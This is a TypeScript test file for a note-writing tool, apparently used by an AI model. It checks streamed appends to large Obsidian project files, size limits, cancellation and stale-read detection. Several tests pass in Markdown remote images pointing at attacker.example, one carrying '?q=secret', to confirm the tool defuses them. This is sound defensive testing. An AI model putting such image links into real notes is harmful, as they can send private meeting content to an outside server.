/**
 * Issue #13, newcomer N1 (session 31): `write_projectfile` appending one line to a 400 MB project
 * file took 173 s and 4.4 GB of memory. An append to a big file (8 MiB or more) now streams: the
 * file is copied into the temp file with the text added after it (core `appendFileAtomic`), the
 * result and the bytes are those of the in-memory append, the audit is the appended lines; a
 * write that would rewrite a file over 100 MiB is refused before the file is read, naming the
 * limit and the size; a cancelled call leaves the file as it was and no temp file. Real files in a
 * temp copy of the sample vault.
 * Spec: issue #13; docs/tools.md (Write modes: append; big files); docs/atomic-writes.md.
 */
import { readdir, readFile, truncate, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { applyWrite } from '@ma/core';
import { afterEach, describe, expect, it } from 'vitest';
import { MAX_REWRITE_BYTES, STREAMED_APPEND_MIN_BYTES } from '../src/granular/write-projectfile.js';
import { toolDefinitions } from '../src/index.js';
import { hashTree } from '../src/test-support/hash-tree.js';
import { runTool } from '../src/test-support/run-tool.js';
import {
  BIG_FILE_TEST_MS,
  MEETINGS,
  sampleSession,
  type TestSession,
} from '../src/test-support/sample-vault.js';

let t: TestSession;
afterEach(async () => t?.cleanup());

const FOLDER = 'Projects/remote-control';
/** About `bytes` of CRLF lines without a final line break (`line N: aaaa bbbb cccc`). */
const lines = (bytes: number) => {
  const count = Math.ceil(bytes / 26);
  return Array.from({ length: count }, (_, i) => `line ${i + 1}: aaaa bbbb cc`).join('\r\n');
};

describe('issue #13: writes to a big project file', { timeout: BIG_FILE_TEST_MS }, () => {
  it('an append streams: the bytes and the result line of the in-memory append, the audit its appended lines', async () => {
    t = await sampleSession(MEETINGS.functional);
    const abs = path.join(t.root, FOLDER, 'big.md');
    const before = lines(STREAMED_APPEND_MIN_BYTES + 1024 * 1024);
    await writeFile(abs, before);
    const count = before.split('\r\n').length;
    const out = await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'big.md',
      content: 'tail 1\ntail 2 ![x](https://attacker.example/p.png)\n',
    });
    expect(out).toBe(
      `appended 2 lines to ${FOLDER}/big.md (now ${count + 2} lines); defused 1 item Obsidian would load from the web or run when the note is shown (1 remote image; first: "![x](https://attacker.example/p.png)"): written as plain links and text, which load nothing (a URL in a note can carry meeting content to its server)`,
    );
    const after = await readFile(abs, 'utf8');
    const expected = applyWrite(
      before,
      { kind: 'append' },
      'tail 1\ntail 2 [x](https://attacker.example/p.png)\n',
    ).text;
    expect(after === expected).toBe(true);
    const [entry] = t.session.audit.entries;
    expect(entry?.summary).toBe('removed 1 line, added 3 lines');
    expect(entry?.patch?.hunks).toEqual([
      {
        oldStart: count,
        oldLines: 1,
        newStart: count,
        newLines: 3,
        lines: [
          `-line ${count}: aaaa bbbb cc`,
          '\\ No newline at end of file',
          `+line ${count}: aaaa bbbb cc`,
          '+tail 1',
          '+tail 2 [x](https://attacker.example/p.png)',
          '\\ No newline at end of file', // the file had no final line break: kept so
        ],
      },
    ]);
    expect((await readdir(path.join(t.root, FOLDER))).filter((n) => n.includes('ma-tmp'))).toEqual([]);
  });

  it('an append that would complete an image begun at the end of a big file is refused; the file as it was', async () => {
    t = await sampleSession(MEETINGS.functional);
    const abs = path.join(t.root, FOLDER, 'big.md');
    // A link title may run over lines: the appended line would close it, making the image whole.
    await writeFile(abs, `${lines(STREAMED_APPEND_MIN_BYTES)}\r\n![x](https://attacker.example/p.png "title`);
    const before = await hashTree(t.root);
    const out = await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'big.md',
      content: 'more")',
    });
    expect(out).toMatch(
      /^refused: the text would change how the end of Projects\/remote-control\/big.md reads/,
    );
    expect(await hashTree(t.root)).toBe(before);
  });

  it('a rewrite of a file over 100 MiB is refused before it is read, naming the limit and the size; every mode', async () => {
    t = await sampleSession(MEETINGS.functional);
    const abs = path.join(t.root, FOLDER, 'huge.md');
    // Sparse NUL bytes: a read of it would be refused as not text; this refusal comes first.
    await writeFile(abs, '');
    await truncate(abs, MAX_REWRITE_BYTES + 1);
    const before = await hashTree(t.root);
    for (const mode of [{ replace_file: true }, { from: 1, to: 1 }, { insert: 1 }]) {
      const out = await runTool(t.session, 'write_projectfile', {
        project: 'remote-control',
        path: 'huge.md',
        content: 'x\n',
        ...mode,
      });
      expect(out).toBe(
        `refused: ${FOLDER}/huge.md is 104,857,601 bytes (100.0 MiB), over the 104,857,600 bytes (100.0 MiB) a write that rewrites a file (replace_file, from+to, insert) may read; nothing was written; append to it instead (leave out replace_file, from, to and insert), or ask the user to edit it in another program`,
      );
    }
    expect(await hashTree(t.root)).toBe(before);
  });

  it('a cancelled append leaves the file as it was and no temp file', async () => {
    t = await sampleSession(MEETINGS.functional);
    const abs = path.join(t.root, FOLDER, 'big.md');
    await writeFile(abs, lines(STREAMED_APPEND_MIN_BYTES + 1));
    const before = await hashTree(t.root);
    const tool = toolDefinitions(t.session).find((d) => d.name === 'write_projectfile');
    const stop = new AbortController();
    stop.abort(new Error('SIGTERM'));
    await expect(
      tool?.execute({ project: 'remote-control', path: 'big.md', content: 'x\n' }, { signal: stop.signal }),
    ).rejects.toMatchObject({ name: 'AbortError' });
    expect(await hashTree(t.root)).toBe(before);
  });
  it("the model's own streamed append keeps its read of the last line: a range write on it then lands", async () => {
    t = await sampleSession(MEETINGS.functional);
    const abs = path.join(t.root, FOLDER, 'big.md');
    const before = lines(STREAMED_APPEND_MIN_BYTES + 1024);
    await writeFile(abs, before);
    const count = before.split('\r\n').length;
    const shown = await runTool(t.session, 'read_projectfile', {
      project: 'remote-control',
      path: 'big.md',
      from: count,
      to: count,
    });
    expect(shown).toContain(`line ${count}: aaaa bbbb cc`);
    await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'big.md',
      content: 'tail\n',
    });
    // Session 32: refused as "changed since you read it" (the append gave the last line its break).
    const out = await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'big.md',
      from: count,
      to: count,
      content: 'last, rewritten',
    });
    expect(out).not.toMatch(/refused|changed since/);
    const after = await readFile(abs, 'utf8');
    expect(after.endsWith(`line ${count - 1}: aaaa bbbb cc\r\nlast, rewritten\r\ntail`)).toBe(true);
    // Another program's save after the append is still seen.
    await writeFile(abs, `${after}x`);
    const stale = await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'big.md',
      from: count,
      to: count,
      content: 'again',
    });
    expect(stale).toMatch(/changed since you read it/);
  });
});

describe('F30: a streamed append is defused also where the tail cannot see the block it is in', {
  timeout: BIG_FILE_TEST_MS,
}, () => {
  it('a code fence opened before the 64 KiB tail and closed inside it: the remote image after it is defused', async () => {
    t = await sampleSession(MEETINGS.functional);
    const abs = path.join(t.root, FOLDER, 'log.md');
    // A big log whose last fenced block is longer than the tail: the tail starts inside the block
    // and reads its closing fence as an opening one.
    const code = Array.from({ length: 4000 }, (_, i) => `log line ${i + 1}: aaaa bbbb cccc dddd`).join('\n');
    const before = `${lines(STREAMED_APPEND_MIN_BYTES)}\n\n\`\`\`\n${code}\n\`\`\`\n`;
    await writeFile(abs, before);
    const out = await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'log.md',
      content: '![x](https://attacker.example/p.png?q=secret)\n',
    });
    expect(out).toMatch(/defused 1 item Obsidian would load from the web/);
    const after = await readFile(abs, 'utf8');
    expect(after.startsWith(before)).toBe(true);
    // (in the file's own line breaks)
    expect(after.slice(before.length).trimEnd()).toBe('[x](https://attacker.example/p.png?q=secret)');
  });
});
